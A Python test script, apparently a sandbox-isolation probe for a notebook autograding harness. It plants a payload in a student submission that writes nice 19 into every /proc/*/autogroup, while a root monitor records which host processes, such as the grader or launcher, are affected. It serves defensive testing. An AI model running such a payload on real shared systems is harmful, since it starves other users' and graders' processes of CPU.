"""A12: the same /proc/<pid>/autogroup lever from the KERNEL's sandbox: write 19 into every /proc/*/autogroup it can
(pid 1 = its sandbox's placeholder, itself, its children). Host monitor (root): which host processes end at nice 19 —
anything outside the kernel's own sandbox session (the grader, the zygote template, the launcher, the next kernel)?"""
import sys, threading, time, glob; sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from harness import *

TM = r'''
import os, glob
_res = []
for f in glob.glob("/proc/[0-9]*/autogroup"):
    try:
        open(f, "w").write("19"); _res.append((f, open(f).read().strip()))
    except OSError as e:
        _res.append((f, e.errno))
print("KDIAG", _res)
'''
log = []; stop = False
def monitor():
    seen = set()
    while not stop:
        for f in glob.glob("/proc/[0-9]*/autogroup"):
            try:
                ag = open(f).read().strip()
                if ag.endswith("nice 19"):
                    pid = f.split("/")[2]
                    cmd = open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\0", b" ")[:140].decode(errors="replace")
                    if (pid, ag) not in seen:
                        seen.add((pid, ag)); log.append(f"{time.strftime('%H:%M:%S')} pid={pid} {ag} :: {cmd}")
            except OSError:
                pass
        time.sleep(0.1)
print("my autogroup:", open("/proc/self/autogroup").read().strip())
root = build("a12", {"mallory": {"training_memory": TM + "\n" + open("/dev/null").read()}})
th = threading.Thread(target=monitor); th.start()
try:
    grade(root)
finally:
    stop = True; th.join()
scores(root)
for s in ("aaron", "mallory", "zoe"): print(s, cell_scores(root, s))
print("\n".join(log))
import subprocess
print(subprocess.run("grep -rhoa 'KDIAG[^<]\\{0,400\\}' " + root + "/autograded | head -2", shell=True, capture_output=True, text=True).stdout)
